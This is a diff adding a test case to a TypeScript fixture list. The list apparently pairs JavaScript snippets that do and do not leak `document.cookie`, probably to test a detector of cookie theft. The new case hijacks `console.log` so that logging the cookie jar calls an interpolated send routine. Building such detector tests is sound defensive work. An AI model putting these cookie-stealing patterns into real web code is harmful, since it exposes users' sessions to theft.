@@ -77,6 +77,12 @@ const values: readonly Twin[] = [
     `const m = new Map(); m.set('jar', document.cookie); const stolen = m.get('other'); ${send}`,
   ],
   [
+    "functions that replace a browser's own",
+    theft,
+    `console.log = function (...stolen) { ${send} }; console.log('jar', document.cookie)`,
+    `console.log = function (...stolen) { ${send} }; console.info('jar', document.cookie)`,
+  ],
+  [
     'parts that have a name of their own',
     theft,
     `const visit = { url: 1, inputs: [] }; const list = visit.inputs; list[0].typed = document.cookie; const stolen = visit; ${send}`,
